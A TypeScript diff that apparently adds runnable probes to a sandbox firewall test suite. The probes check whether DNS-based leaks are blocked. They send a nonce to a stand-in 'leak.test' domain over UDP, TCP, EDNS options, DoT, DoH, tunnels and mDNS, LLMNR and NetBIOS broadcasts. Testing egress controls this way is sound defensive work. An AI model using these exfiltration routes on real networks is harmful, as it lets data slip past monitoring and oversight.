@@ -1,6 +1,102 @@
-import type { Probe } from './probe.ts';
+import { Resolver } from 'node:dns/promises';
+import { once } from 'node:events';
+import type { NetConnectOpts } from 'node:net';
+import type { Targets } from '../arena/targets.ts';
+import { ask, inTunnel, textOf } from '../guest/requests.ts';
+import {
+  all,
+  clientHello,
+  datagram,
+  interfaces,
+  open,
+  proxy,
+  question,
+  sendLast,
+  tunnel,
+} from '../guest/wire.ts';
+import type { Attempt, Probe, Run } from './probe.ts';
 
-/** DNS, and what stands in for it, as a way out. */
+/** DNS, and what stands in for it, asked of others than the gateway. */
+
+const DNS_PORT = 53;
+const own4 = ({ addresses }: Targets): string[] => [...addresses.ip4, '127.0.0.1'];
+const leakedBy = (nonce: string): string => `${nonce}.leak.test`;
+const askedBy = ({ names }: Targets, nonce: string): string => `${nonce}.${names.asked}`;
+
+/** With its length before it (RFC 7766). */
+function framed(name: string): Buffer {
+  const message = question(name);
+  return Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]);
+}
+
+async function overTcp(where: NetConnectOpts, name: string): Promise<void> {
+  const socket = await open(where);
+  const closed = once(socket, 'close');
+  await sendLast(socket, framed(name));
+  await closed;
+}
+
+/** An OPT record (RFC 6891) with an option of a private number. */
+function withOption(name: string, text: string): Buffer {
+  const message = question(name);
+  message[11] = 1; // one additional record
+  const data = Buffer.from([0xfd, 0xe9, 0, text.length, ...Buffer.from(text)]);
+  return Buffer.concat([message, Buffer.from([0, 0, 41, 4, 208, 0, 0, 0, 0, 0, data.length]), data]);
+}
+
+const TYPES = ['A', 'AAAA', 'TXT', 'ANY', 'MX', 'SRV', 'CAA', 'NAPTR', 'SOA', 'NS', 'CNAME', 'PTR'];
+
+/** By the resolver that programs have, with a server of its own choice. */
+function resolving(server: string, name: string): Promise<void> {
+  const resolver = new Resolver({ timeout: 500, tries: 1 });
+  resolver.setServers([server]);
+  return all(TYPES.map((type) => resolver.resolve(name, type).catch(refuseRefused)));
+}
+
+/** That a server says no is an answer. */
+function refuseRefused({ code, message }: NodeJS.ErrnoException): void {
+  if (code === 'ECONNREFUSED' || code === 'ETIMEOUT') throw new Error(message);
+}
+
+/** An NBNS query (RFC 1002, 4.2.12): half bytes as letters, which would hide a nonce, so its scope has it. */
+function netbios(nonce: string): Buffer {
+  const name = Buffer.from('CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
+  const scope = Buffer.from([nonce.length, ...Buffer.from(nonce), 0]);
+  return Buffer.concat([
+    Buffer.from([0x42, 0x42, 1, 0x10, 0, 1, 0, 0, 0, 0, 0, 0, 32]),
+    name,
+    scope,
+    Buffer.from([0, 0x21, 0, 1]),
+  ]);
+}
+
+/** By routing, and from each address here. */
+const everywhere = (address: string) => [
+  { address },
+  ...interfaces()
+    .filter(({ ip4 }) => ip4)
+    .map((from) => ({ address, source: from.address })),
+];
+
+/** The same datagram, to the one server that may be asked: its log has the name. */
+const askedByDatagram: Attempt = (t, nonce) =>
+  datagram('udp4', { port: DNS_PORT, address: proxy().host }, question(askedBy(t, nonce)));
+
+const toGroup = (at: number): Run => ({
+  attack: ({ port, namingGroups }, nonce) =>
+    all(
+      everywhere(namingGroups.udp4[at] ?? '').map((way) =>
+        datagram('udp4', { port, ...way }, question(`${nonce}.local`)),
+      ),
+    ),
+  control: askedByDatagram,
+});
+
+function posted(t: Targets, host: string, name: string): Promise<void> {
+  const body = question(name).toString('latin1');
+  const lines = ['Content-Type: application/dns-message', `Content-Length: ${Buffer.byteLength(body)}`];
+  return ask(t, { host, path: '/dns-query', method: 'POST', lines, body });
+}
 
 const leak = {
   family: 'dns',
@@ -25,6 +121,11 @@ export const DNS: readonly Probe[] = [
     claim: 'No DNS server but the gateway can be asked.',
     attack: 'ask a DNS server of its own choice',
     needs: 'ip4',
+    run: {
+      attack: ({ port, addresses }, nonce) =>
+        all(addresses.ip4.map((address) => datagram('udp4', { port, address }, question(leakedBy(nonce))))),
+      control: askedByDatagram,
+    },
   },
   {
     ...elsewhere,
@@ -32,12 +133,20 @@ export const DNS: readonly Probe[] = [
     claim: 'No other DNS server can be asked over TCP.',
     attack: 'the same over TCP',
     source: 'gh-aw-firewall #9: any server on port 53, over TCP too; RFC 7766',
+    run: {
+      attack: (t, nonce) => all(own4(t).map((host) => overTcp({ host, port: t.port }, leakedBy(nonce)))),
+      control: (t, nonce) => overTcp({ host: proxy().host, port: DNS_PORT }, askedBy(t, nonce)),
+    },
   },
   {
     ...elsewhere,
     id: 'dns-types',
     claim: 'No type of record can be asked of another DNS server.',
     attack: 'the same for TXT, ANY, MX and nine more types',
+    run: {
+      attack: (t, nonce) => all(own4(t).map((host) => resolving(`${host}:${t.port}`, leakedBy(nonce)))),
+      control: (t, nonce) => resolving(proxy().host, askedBy(t, nonce)),
+    },
   },
   {
     ...elsewhere,
@@ -45,6 +154,16 @@ export const DNS: readonly Probe[] = [
     claim: 'No option of a question reaches another DNS server.',
     attack: 'the same, with the data in an option (EDNS)',
     source: 'RFC 6891: options carry what they like',
+    run: {
+      attack: ({ port, ...t }, nonce) =>
+        all(
+          own4({ port, ...t }).map((address) =>
+            datagram('udp4', { port, address }, withOption('leak.test', nonce)),
+          ),
+        ),
+      control: (t, nonce) =>
+        datagram('udp4', { port: DNS_PORT, address: proxy().host }, withOption(askedBy(t, nonce), nonce)),
+    },
   },
   {
     ...elsewhere,
@@ -52,19 +171,39 @@ export const DNS: readonly Probe[] = [
     claim: 'No DNS server can be asked over TLS.',
     attack: 'the same over TLS (DoT)',
     control: 'canary',
-    source: 'RFC 7858: DoT',
+    source: 'RFC 7858: DoT, which begins with TLS',
+    run: {
+      attack: (t, nonce) =>
+        all(
+          own4(t).map(
+            async (host) => await clientHello(await open({ host, port: t.port }), leakedBy(nonce), nonce),
+          ),
+        ),
+      control: async (t, nonce) => {
+        const { socket } = await tunnel(`${t.names.tls}:${t.port}`);
+        await clientHello(socket, t.names.tls, nonce);
+      },
+    },
   },
   {
     ...overHttps,
     id: 'dns-https-get',
     claim: 'No DNS server can be asked over HTTP that no rule allows.',
     attack: 'ask by HTTP, in the URL (DoH)',
+    run: {
+      attack: (t, nonce) => ask(t, { host: t.names.other, path: `/dns-query?dns=${nonce}` }),
+      control: (t, nonce) => ask(t, { host: t.names.http, path: `/dns-query?dns=${nonce}` }),
+    },
   },
   {
     ...overHttps,
     id: 'dns-https-post',
     claim: 'No DNS server can be asked over HTTP, in a message, that no rule allows.',
     attack: 'ask by HTTP, as a message (DoH)',
+    run: {
+      attack: (t, nonce) => posted(t, t.names.other, leakedBy(nonce)),
+      control: (t, nonce) => posted(t, t.names.http, leakedBy(nonce)),
+    },
   },
   {
     ...overHttps,
@@ -72,6 +211,19 @@ export const DNS: readonly Probe[] = [
     claim: 'No tunnel carries DNS.',
     attack: 'ask through a tunnel',
     source: 'RFC 7766: DNS over TCP; MITRE ATT&CK T1572, protocol tunnelling',
+    run: {
+      attack: (t, nonce) =>
+        all(
+          [...own4(t), t.names.http, t.names.tls].map((host) =>
+            inTunnel(`${host}:${t.port}`, framed(leakedBy(nonce))),
+          ),
+        ),
+      control: (t, nonce) =>
+        inTunnel(
+          `${t.names.http}:${t.port}`,
+          textOf({ target: `/${nonce}`, lines: [`Host: ${t.names.http}:${t.port}`] }),
+        ),
+    },
   },
   {
     ...shouted,
@@ -79,6 +231,7 @@ export const DNS: readonly Probe[] = [
     claim: 'No question to all neighbours (mDNS) reaches the host.',
     attack: 'ask all neighbours (mDNS)',
     needs: 'ip4',
+    run: toGroup(0),
   },
   {
     ...shouted,
@@ -86,6 +239,7 @@ export const DNS: readonly Probe[] = [
     claim: 'No question to all neighbours (LLMNR) reaches the host.',
     attack: 'ask all neighbours (LLMNR)',
     needs: 'ip4',
+    run: toGroup(1),
   },
   {
     ...shouted,
@@ -93,5 +247,14 @@ export const DNS: readonly Probe[] = [
     claim: 'No question by broadcast (NetBIOS) reaches the host.',
     attack: 'ask all neighbours (NetBIOS)',
     needs: 'broadcast',
+    run: {
+      attack: ({ port, addresses }, nonce) =>
+        all(
+          ['255.255.255.255', ...addresses.broadcast]
+            .flatMap(everywhere)
+            .map((way) => datagram('udp4', { port, ...way }, netbios(nonce))),
+        ),
+      control: askedByDatagram,
+    },
   },
 ];
